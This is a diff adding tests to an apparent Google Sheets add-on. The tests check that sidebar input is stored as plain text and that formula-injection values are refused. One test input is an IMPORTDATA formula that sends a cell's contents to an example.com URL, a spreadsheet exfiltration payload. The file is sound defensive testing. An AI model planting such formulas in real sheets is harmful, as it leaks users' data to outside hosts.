@@ -80,3 +80,46 @@ test('refreshing a failing report answers with the error, and the row and log ke
   expect(logRows(a).at(-1)?.[6]).toBe(result.result);
   expect(a.spreadsheet.sheet('Campaigns')).toBeUndefined();
 });
+
+test('text from the sidebar lands in Gravity Reports as exact text, even in a tab a user made by hand', () => {
+  const a = addon(mock());
+  // A hand-made config tab: the header typed by a user, no plain-text formats on its columns.
+  a.spreadsheet
+    .addSheet(CONFIG)
+    .typeValues('A1', [
+      [
+        'Tab',
+        'Report',
+        'Days',
+        'Start date',
+        'End date',
+        'Campaign ID',
+        'Status',
+        'Event type',
+        'Domain',
+        'Mode',
+        'Enabled',
+        'Last run',
+        'Result',
+        'Rows',
+      ],
+    ]);
+  a.run('sidebarAddReport', [{ report: 'conversions', campaignId: '00123', eventType: 'TRUE' }]);
+  const config = sheet(a, CONFIG);
+  expect(config.cell('F2').value).toBe('00123');
+  expect(config.cell('H2').value).toBe('TRUE');
+  expect(config.cell('F2').formula).toBe('');
+});
+
+test.each([
+  ['campaignId', '=IMPORTDATA("https://example.com/?q="&A1)'],
+  ['status', '=1+1'],
+  ['domain', "'quoted"],
+])('a %s that Sheets would read as a formula or an escape is refused, nothing written', (field, value) => {
+  const a = addon(mock());
+  const report = field === 'status' ? 'campaigns' : field === 'domain' ? 'events_domains' : 'metrics';
+  expect(() => a.run('sidebarAddReport', [{ report, [field]: value }])).toThrow(/must not start with/);
+  const config = a.spreadsheet.sheet(CONFIG);
+  expect(config?.formulas().flat().filter(Boolean) ?? []).toEqual([]);
+  expect(config?.values().length ?? 0).toBeLessThanOrEqual(1);
+});
